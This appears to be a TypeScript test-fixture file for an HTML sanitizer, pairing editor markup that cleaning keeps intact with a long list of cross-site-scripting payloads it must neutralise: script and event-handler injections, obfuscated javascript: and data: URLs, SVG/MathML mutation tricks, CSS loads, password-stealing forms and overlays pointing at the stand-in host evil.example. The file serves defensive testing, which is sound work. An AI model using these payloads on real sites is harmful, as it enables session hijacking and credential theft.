type Cases = Readonly<Record<string, string>>;

const picture = '/pictures/0123456789abcdef0123456789abcdef';

/** What the editor makes, as it is stored: cleaning leaves every byte of it. */
export const kept: Cases = {
  'a paragraph': '<p>The Fed holds rates.</p>',
  'paragraphs with nothing in one': '<p>Before</p><p></p><p>after</p>',
  'a line broken by hand': '<p>One<br>two<br><br>four</p>',
  headings: '<h2>Rates</h2><h3>In March</h3><h4>At the long end</h4><p>They stay.</p>',
  'a heading with marks': '<h2>What <em>it</em> means</h2>',
  'each mark': '<p><strong>b</strong> <em>i</em> <u>u</u> <s>s</s> <code>c</code></p>',
  'marks in one another': '<p><strong>a<em>b<u>c<s>d</s></u></em></strong><em>e</em></p>',
  'a mark on a space only': '<p>a<strong> </strong>b</p><p><em> </em></p>',
  'spaces as they were typed': '<p>  two  and&nbsp;one&nbsp;&nbsp;</p><p>   </p>',
  'a quotation': '<blockquote><p>We are not in a hurry.</p><p>At all.</p></blockquote>',
  'a quotation in a quotation': '<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>',
  'a heading and a list quoted': '<blockquote><h3>a</h3><ul><li><p>b</p></li></ul></blockquote>',
  'a rule': '<p>a</p><hr><p>b</p><hr>',
  'a list': '<ul><li><p>Treasury bills</p></li><li><p>Banks</p></li></ul>',
  'a numbered list': '<ol><li><p>one</p></li><li><p>two</p></li></ol>',
  'a list numbered from seven': '<ol start="7"><li><p>seven</p></li></ol>',
  'a list numbered from zero': '<ol start="0"><li><p>zero</p></li></ol>',
  'lists in lists':
    '<ul><li><p>a</p><ol><li><p>b</p><ul><li><p>c</p></li></ul></li><li><p>d</p></li></ol></li><li><p>e</p></li></ul>',
  'a list item of many blocks':
    '<ul><li><p>a</p><p>b</p><pre><code>c</code></pre><blockquote><p>d</p></blockquote></li></ul>',
  'an empty list item': '<ul><li><p></p></li></ul>',
  code: '<pre><code>range = [3.50, 3.75]\n\tif (a &lt; b &amp;&amp; c &gt; d) {\n    "x";\n}\n</code></pre>',
  'code that begins with empty lines': '<pre><code>\n\n  x</code></pre>',
  'code without a line': '<pre><code></code></pre>',
  'code about markup': '<pre><code>&lt;script&gt;alert("&amp;amp;")&lt;/script&gt;</code></pre>',
  'words that look like markup':
    '<p>1 &lt; 2 &gt; 0, &lt;b&gt;, &amp;lt;, &amp;nbsp;, --&gt;, ]]&gt; and "\'`=</p>',
  'a link outside':
    '<p>See <a href="https://www.sec.gov/edgar?a=b&amp;c=%20#d" target="_blank" rel="noopener noreferrer">it</a>.</p>',
  'a link without TLS':
    '<p><a href="http://example.com" target="_blank" rel="noopener noreferrer">it</a></p>',
  'a link in another script':
    '<p><a href="https://пример.рф/путь(а)" target="_blank" rel="noopener noreferrer">пример</a></p>',
  'a link to write to': '<p><a href="mailto:desk@example.com?subject=A%20word">write</a></p>',
  'a link to call': '<p><a href="tel:+1-555-0100">call</a></p>',
  'links of our own': '<p><a href="/">home</a> <a href="/stocks/BRK.B?range=1y#news">stock</a></p>',
  'a link with marks': '<p>a <a href="/help"><strong>b<em>c</em></strong><code>d</code></a> e</p>',
  'a link around a line’s end': '<p><a href="/help">a<br>b</a></p>',
  'a picture': `<p>a</p><img src="${picture}/large.webp" alt="A chart" loading="lazy" decoding="async"><p>b</p>`,
  'a picture with its size': `<img src="${picture}/small.webp" alt="" width="640" height="480" loading="lazy" decoding="async">`,
  'a picture with a long description': `<img src="${picture}/medium.webp" alt="“A” &quot;b&quot; &amp; 'c' &lt;d&gt;&nbsp;é 图" loading="lazy" decoding="async">`,
  'a picture in a list': `<ul><li><p>a</p><img src="${picture}/small.webp" alt="b" loading="lazy" decoding="async"></li></ul>`,
  'a table':
    '<table><tbody><tr><th colspan="1" rowspan="1"><p>Symbol</p></th><th colspan="1" rowspan="1"><p>Price</p></th></tr><tr><td colspan="1" rowspan="1"><p>JPM</p></td><td colspan="1" rowspan="1"><p></p></td></tr></tbody></table>',
  'a table with cells over several':
    '<table><tbody><tr><th colspan="2"><p>a</p></th><td rowspan="3"><p>b</p></td></tr><tr><td colspan="50" rowspan="200"><p>c</p></td></tr></tbody></table>',
  'a table with blocks in its cells': `<table><tbody><tr><td><ul><li><p>a</p></li></ul><h3>b</h3></td><td><img src="${picture}/small.webp" alt="" loading="lazy" decoding="async"><p>c</p></td></tr></tbody></table>`,
  'a table in a table':
    '<table><tbody><tr><td><table><tbody><tr><td><p>a</p></td></tr></tbody></table></td></tr></tbody></table>',
  'a table in a quotation':
    '<blockquote><table><tbody><tr><td><p>a</p></td></tr></tbody></table></blockquote>',
  'Arabic and Hebrew': '<p>ارتفاع الأسهم \u200f(٢٠٢٦)\u200e</p><h2>שוק המניות</h2><p>\u2067a\u2069</p>',
  'Chinese, Hindi and Thai': '<p>美联储维持利率不变</p><p>शेयर बाज़ार</p><p>ตลาดหุ้น</p>',
  'emoji and marks': '<p>🚀 👩‍👩‍👧 🇨🇭 ❤️ 1️⃣ e\u0301 \u00ad\u200b\ufeff</p>',
  'the far planes': '<p>𝼀 \u{10fffd} \ue000</p>',
  'words without a paragraph': 'Just <strong>words</strong>',
  'a list as others write it': '<ul><li>a<ul><li>b</li></ul></li></ul><p>c</p>\n<p>d</p>\n',
};

/** What must lose its sting: run by a browser, it would set `window.hacked` or ask evil.example for something. */
export const hostile: Cases = {
  'a script': '<p>a</p><script>window.hacked = true</script>',
  'a script from elsewhere': '<script src="https://evil.example/a.js"></script>',
  'a script in capitals': '<SCRIPT SRC=//evil.example/a.js></SCRIPT>',
  'a script with junk in its tags': '<script/x="y"/src="https://evil.example/a.js"></script foo>',
  'a script within a script': '<scr<script>ipt>window.hacked=true</scr</script>ipt>',
  'a script with a NUL': '<scr\0ipt>window.hacked=true</scr\0ipt><script\0>window.hacked=true</script>',
  'a script never closed': '<script>window.hacked=true',
  'a script tag never ended': '<p>a</p><script src="https://evil.example/a.js"',
  'a script closed with a space': '<script>window.hacked=true</script ><p>b</p>',
  'a script named in entities':
    '&lt;script&gt;window.hacked=true&lt;/script&gt;&#60;script&#62;window.hacked=true&#60;/script&#62;',
  'a script twice in entities': '&amp;lt;img src=x onerror=window.hacked=true&amp;gt;',
  'a script after a broken tag': '<<script>window.hacked=true//<</script>',
  'an SVG script': '<svg><script>window.hacked=true</script></svg>',
  'an SVG script by reference': '<svg><script href="https://evil.example/a.js" /></svg>',
  'a failing picture': '<img src=x onerror=window.hacked=true>',
  'a failing picture with slashes': '<img/src=x/onerror=window.hacked=true>',
  'a failing picture in capitals': '<IMG SRC=x OnErRoR="window.hacked=true">',
  'a failing picture of our own':
    '<img src="/pictures/0123456789abcdef0123456789abcdef/small.webp" onerror="window.hacked=true">',
  'an image by its old name': '<image src=x onerror=window.hacked=true>',
  'a handler named in entities': '<img src=x onerror="&#119;indow.hacked&#x3d;true">',
  'a handler after a form feed': '<img src=x\fonerror=window.hacked=true>',
  'a handler in backticks': '<img src=`x`onerror=window.hacked=true>',
  'a handler after an unfinished quote': `<img src="x' onerror=window.hacked=true>"><img src='x" onerror=window.hacked=true>`,
  'a handler behind a quote in an attribute': '<img alt="&quot; onerror=&quot;window.hacked=true" src=x>',
  'a handler behind a bracket in an attribute': '<img alt="><img src=x onerror=window.hacked=true>" src=y>',
  'a handler on an unfinished tag': '<p>a</p><img src=x onerror=window.hacked=true //',
  'a handler with a slash for a space':
    '<p/onmouseover=window.hacked=true/style=position:fixed;inset:0>a</p>',
  'a handler on the start of an animation':
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="window.hacked=true">a</p>',
  'a handler that takes the focus': '<p tabindex=0 autofocus onfocus=window.hacked=true>a</p>',
  'a javascript address': '<a href="javascript:window.hacked=true">a</a>',
  'a javascript address in mixed case': '<a href="JaVaScRiPt:window.hacked=true">a</a>',
  'a javascript address in entities': '<a href="&#106;&#x61;vascript&colon;window.hacked=true">a</a>',
  'a javascript address without semicolons': '<a href="&#0000106&#0000097vascript:window.hacked=true">a</a>',
  'a javascript address with a tab':
    '<a href="java\tscript:window.hacked=true">a</a><a href="java&Tab;script:window.hacked=true">b</a>',
  'a javascript address with line ends':
    '<a href="java\nscript&NewLine;:window.hacked=true">a</a><a href="j\r\navascript:window.hacked=true">b</a>',
  'a javascript address after control characters':
    '<a href="\x01\x02 javascript:window.hacked=true">a</a><a href="&#1;javascript:window.hacked=true">b</a>',
  'a javascript address with a NUL':
    '<a href="java\0script:window.hacked=true">a</a><a href="java&#0;script:window.hacked=true">b</a>',
  'a javascript address after spaces': '<a href=" &#32;&#9;&#13;&#12; javascript:window.hacked=true">a</a>',
  'a javascript address after a wide space':
    '<a href="\u00a0javascript:window.hacked=true">a</a><a href="\u2003\ufeffjavascript:window.hacked=true">b</a>',
  'a javascript address in wide letters':
    '<a href="ｊavascript:window.hacked=true">a</a><a href="javascript：window.hacked=true">b</a>',
  'a javascript address with a soft hyphen': '<a href="java\u00adscript:window.hacked=true">a</a>',
  'a javascript address in a comment': '<a href="java<!-- -->script:window.hacked=true">a</a>',
  'a javascript address unquoted': '<a href=javascript:window.hacked=true>a</a>',
  'a javascript address in two attributes':
    '<a href="/x" href="javascript:window.hacked=true">a</a><a href="javascript:window.hacked=true" href="/x">b</a>',
  'a javascript address in XLink':
    '<svg><a xlink:href="javascript:window.hacked=true"><text y=20>a</text></a></svg>',
  'a javascript address in MathML': '<math href="javascript:window.hacked=true"><mtext>a</mtext></math>',
  'a javascript address for a picture':
    '<img src="javascript:window.hacked=true"><img lowsrc="javascript:window.hacked=true">',
  'a vbscript address': '<a href="vbscript:window.hacked=true">a</a>',
  'a data address': '<a href="data:text/html,<script>opener.hacked=true</script>">a</a>',
  'a data address in base 64':
    '<a href="data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGFja2VkPXRydWU8L3NjcmlwdD4=">a</a>',
  'a data picture': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.hacked=true'/>">`,
  'a blob and a file':
    '<a href="blob:https://evil.example/1">a</a><a href="file:///etc/passwd">b</a><a href="filesystem:https://evil.example/x">c</a>',
  'a link without its scheme':
    '<a href="//evil.example/">a</a><a href="/\\evil.example/">b</a><a href="\\\\evil.example/">c</a>',
  'a link without its scheme behind a tab':
    '<a href="/\t/evil.example/">a</a><a href="/&#10;/evil.example/">b</a><a href="&#9;//evil.example">c</a>',
  'a link without its scheme behind a NUL':
    '<a href="/\0/evil.example/">a</a><a href="/\x7f/evil.example/">b</a><a href="/\x85/evil.example/">c</a>',
  'a link without its scheme behind a comment': '<a href="/<!-- -->/evil.example/">a</a>',
  'a foreign picture': '<img src="https://evil.example/pixel.png"><img src="//evil.example/pixel.png">',
  'a foreign picture under our path':
    '<img src="https://evil.example/pictures/0123456789abcdef0123456789abcdef/small.webp">',
  'a foreign picture after our path':
    '<img src="/pictures/0123456789abcdef0123456789abcdef/small.webp\n@evil.example/x"><img src="/pictures/../../x">',
  'a foreign picture by srcset':
    '<img src="/pictures/0123456789abcdef0123456789abcdef/small.webp" srcset="https://evil.example/a.png 2x">',
  'a foreign picture by source':
    '<picture><source srcset="https://evil.example/a.png"><img src="https://evil.example/b.png"></picture>',
  'a foreign picture in a table’s background':
    '<table background="https://evil.example/a.png"><tr><td background="https://evil.example/b.png">a</td></tr></table>',
  'a foreign picture in a body’s background':
    '<body background="https://evil.example/a.png" onload="window.hacked=true">a</body>',
  'a picture in an SVG':
    '<svg><image href="https://evil.example/a.png" onload=window.hacked=true></svg><svg><feImage href="https://evil.example/b.png"/></svg>',
  'a foreign use in an SVG': '<svg><use href="https://evil.example/a.svg#x"></use></svg>',
  'a set in an SVG':
    '<svg><a><set attributeName=href to=javascript:window.hacked=true></set><text y=20>a</text></a></svg>',
  'an animation in an SVG':
    '<svg><animate onbegin=window.hacked=true attributeName=x dur=1s></svg><svg><a><animate attributeName=href values=javascript:window.hacked=true /></a></svg>',
  'an SVG that loads': '<svg onload=window.hacked=true><svg/onload=window.hacked=true>',
  'HTML inside an SVG': '<svg><foreignObject><img src=x onerror=window.hacked=true></foreignObject></svg>',
  'an SVG style': '<svg></p><style><a id="</style><img src=x onerror=window.hacked=true>">',
  'an SVG title': '<svg><title><img src=x onerror=window.hacked=true></title></svg>',
  'an SVG description':
    '<svg><desc><noscript><p title="</noscript><img src=x onerror=window.hacked=true>"></desc></svg>',
  'a MathML style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.hacked=true&gt;">',
  'a MathML annotation':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=window.hacked=true></annotation-xml></math>',
  'forms that mutate in MathML':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=true>',
  'CDATA in an SVG': '<svg><![CDATA[><img src=x onerror=window.hacked=true>]]></svg>',
  CDATA:
    '<![CDATA[<img src=x onerror=window.hacked=true>]]><![CDATA[>]]><img src=x onerror=window.hacked=true>',
  'a comment that ends at once': '<!--><img src=x onerror=window.hacked=true>-->',
  'a comment that ends almost at once': '<!---><img src=x onerror=window.hacked=true>-->',
  'a comment that ends with a bang': '<!-- --!><img src=x onerror=window.hacked=true>-->',
  'a comment never closed': '<!-- <img src=x onerror=window.hacked=true>',
  'a comment in a comment': '<!--<!----><img src=x onerror=window.hacked=true>--!>-->',
  'a comment that is none':
    '<! foo="><script>window.hacked=true</script>"><!x><img src=x onerror=window.hacked=true>',
  'a closing tag that is none':
    '</ foo="><img src=x onerror=window.hacked=true>"></><img src=x onerror=window.hacked=true>',
  'a processing instruction':
    '<?xml version="1.0"?><?x ><img src=x onerror=window.hacked=true>?><?php echo "<script>window.hacked=true</script>" ?>',
  'a document type': '<!DOCTYPE html [<!ENTITY x "<script>window.hacked=true</script>">]>&x;',
  'a conditional comment': '<!--[if gte IE 4]><script>window.hacked=true</script><![endif]-->',
  'a revealed conditional comment': '<![if !IE]><img src="https://evil.example/a.png"><![endif]>',
  'what Word puts out': `<!--[if gte mso 9]><xml><o:p/></xml><![endif]--><p class=MsoNormal style='mso-fareast:url("https://evil.example/a")'><o:p><img src="file:///C:/a.png" v:shapes="_x0000" onerror="window.hacked=true">a</o:p></p>`,
  noscript: '<noscript><p title="</noscript><img src=x onerror=window.hacked=true>"></noscript>',
  'noscript closed by its parent': '<p><noscript></p><img src=x onerror=window.hacked=true></noscript>',
  'a template': '<template><img src=x onerror=window.hacked=true></template>',
  'a shadow tree':
    '<p><template shadowrootmode=open><script>window.hacked=true</script><img src=x onerror=window.hacked=true></template></p>',
  'a style that closes itself': '<style><img src="</style><img src=x onerror=window.hacked=true>">',
  'a title': '<title><p title="</title><img src=x onerror=window.hacked=true>"></title>',
  'a textarea': '<textarea><p title="</textarea><img src=x onerror=window.hacked=true>"></textarea>',
  'a textarea closed with a slash': '<textarea></textarea/><img src=x onerror=window.hacked=true></textarea>',
  'an xmp': '<xmp><p title="</xmp><img src=x onerror=window.hacked=true>"></xmp>',
  'a noembed and a noframes':
    '<noembed><p title="</noembed><img src=x onerror=window.hacked=true>"></noembed><noframes><p title="</noframes><img src=x onerror=window.hacked=true>">',
  'plain text':
    '<p>a</p><plaintext><img src=x onerror=window.hacked=true></plaintext><script>window.hacked=true</script>',
  'a selection': '<select><option><style></option></select><img src=x onerror=window.hacked=true></style>',
  'a table that fosters':
    '<table><img src=x onerror=window.hacked=true><tr><script>window.hacked=true</script><td>a</table>',
  'a style sheet':
    '<style>@import "https://evil.example/a.css"; body { background: url(https://evil.example/a.png) }</style>',
  'a linked style sheet':
    '<link rel=stylesheet href="https://evil.example/a.css"><link rel=preload as=image href="https://evil.example/a.png">',
  'a style attribute that loads': `<p style="background:url(https://evil.example/a.png)">a</p><p style="list-style:url('https://evil.example/b')">b</p>`,
  'a style attribute in escapes':
    '<p style="backgr\\6f und:ur\\6c(https://evil.example/a.png)">a</p><p style="width:expression(window.hacked=true)">b</p>',
  'a style attribute that binds':
    '<p style="-moz-binding:url(https://evil.example/a.xml#x);behavior:url(https://evil.example/a.htc)">a</p>',
  'an overlay by style':
    '<a href="https://evil.example/login" style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example/a.png)">Sign in</a>',
  'an overlay by our classes':
    '<a href="https://evil.example/login" class="fixed inset-0 z-50 bg-paper prose" onclick="window.hacked=true">Sign in</a>',
  'another address for all links':
    '<base href="https://evil.example/"><a href="login">a</a><img src="a.png">',
  'a page that moves on':
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><meta http-equiv=refresh content="0;javascript:window.hacked=true">',
  'a policy of its own':
    '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri https://evil.example/r"><meta name=referrer content=unsafe-url>',
  'a frame':
    '<iframe src="https://evil.example/"></iframe><iframe src="javascript:parent.hacked=true"></iframe>',
  'a frame with its own text':
    '<iframe srcdoc="<script>parent.hacked=true</script>"></iframe><iframe srcdoc="&lt;img src=x onerror=parent.hacked=true&gt;"></iframe>',
  'a frame closed in an attribute':
    '<iframe><p title="</iframe><img src=x onerror=window.hacked=true>"></iframe>',
  'a set of frames': '<frameset onload=window.hacked=true><frame src="https://evil.example/"></frameset>',
  'an object':
    '<object data="https://evil.example/a.swf"><img src=x onerror=window.hacked=true></object><object data="javascript:window.hacked=true"></object>',
  'an embedded page':
    '<embed src="https://evil.example/a.html"><embed src="javascript:window.hacked=true" type="text/html">',
  'an applet':
    '<applet code="Evil" codebase="https://evil.example/" archive="https://evil.example/a.jar">a</applet>',
  'a portal and a fenced frame':
    '<portal src="https://evil.example/"></portal><fencedframe src="https://evil.example/"></fencedframe>',
  'a form':
    '<form action="https://evil.example/login"><input name=password type=password autofocus onfocus=window.hacked=true><button>Go</button></form>',
  'a form’s other ends':
    '<form id=f></form><button form=f formaction="javascript:window.hacked=true">a</button><input type=image src="https://evil.example/a.png" formaction="https://evil.example/">',
  'an old form':
    '<isindex action="javascript:window.hacked=true" type=image src="https://evil.example/a.png"><keygen autofocus onfocus=window.hacked=true>',
  'a sound':
    '<audio src="https://evil.example/a.mp3" autoplay onplay=window.hacked=true></audio><audio><source src=x onerror=window.hacked=true></audio>',
  'a film':
    '<video poster="https://evil.example/a.png" autoplay src="https://evil.example/a.mp4" onloadstart=window.hacked=true><track src="https://evil.example/a.vtt" default></video>',
  'a sound in the background':
    '<bgsound src="https://evil.example/a.mid"><bgsound src="javascript:window.hacked=true">',
  'a marquee': '<marquee onstart=window.hacked=true loop=1>a</marquee>',
  'details that open': '<details open ontoggle=window.hacked=true><summary>a</summary>b</details>',
  'a dialog that is open':
    '<dialog open onclose=window.hacked=true style="position:fixed;inset:0"><form method=dialog><img src="https://evil.example/a.png"></form></dialog>',
  'a popover':
    '<p popover id=x onbeforetoggle=window.hacked=true>a</p><button popovertarget=x autofocus>b</button>',
  'an input that is hidden':
    '<input type=hidden popover id=y onbeforetoggle=window.hacked=true><button popovertarget=y>a</button>',
  'what can be edited':
    '<p contenteditable tabindex=1 autofocus onfocus=window.hacked=true oninput=window.hacked=true>a</p>',
  'a key to it': '<a href="/x" accesskey=x onclick=window.hacked=true tabindex=1>a</a>',
  'a link that tells':
    '<a href="https://www.sec.gov" ping="https://evil.example/ping" onclick="window.hacked=true">a</a>',
  'a link that downloads':
    '<a href="https://evil.example/a.exe" download="statement.pdf" onclick="window.hacked=true">a</a>',
  'a link that keeps its opener':
    '<a href="https://evil.example/" target="_blank" rel="opener">a</a><a href="https://evil.example/" target="holdwise">b</a>',
  'a map of links':
    '<img src="/pictures/0123456789abcdef0123456789abcdef/small.webp" usemap="#m"><map name=m><area shape=default href="javascript:window.hacked=true"></map>',
  'names that hide ours':
    '<a id=hacked name=hacked href="/x"></a><form name=document id=cookie onsubmit=window.hacked=true><input name=getElementById></form>',
  'names in pairs':
    '<a id=config></a><a id=config name=url href="https://evil.example/a.js">a</a><img name=currentScript src="https://evil.example/a.png">',
  'an element of its own':
    '<x-evil onclick=window.hacked=true is="script" src="https://evil.example/a.js">a</x-evil><p is="x-evil" onclick=window.hacked=true>b</p>',
  'a namespace of its own':
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="https://evil.example/a.js">window.hacked=true</x:script>',
  'data for a library': `<p data-on-click="window.hacked=true" x-init="window.hacked=true" ng-app>{{constructor.constructor('window.hacked=true')()}}</p>`,
  'words as a prototype':
    '<p __proto__="x" constructor onclick=window.hacked=true>a</p><constructor onclick=window.hacked=true>b</constructor><__proto__>c</__proto__>',
  'lone surrogates':
    '<p \ud800onclick=window.hacked=true title="\udfff">\ud800<img src=x onerror=window.hacked=true>\udc00</p>',
  'direction turned around':
    '<a href="https://www.sec.gov" title="\u202e" onmouseover=window.hacked=true>\u202eelpmaxe.live//:sptth</a>',
};
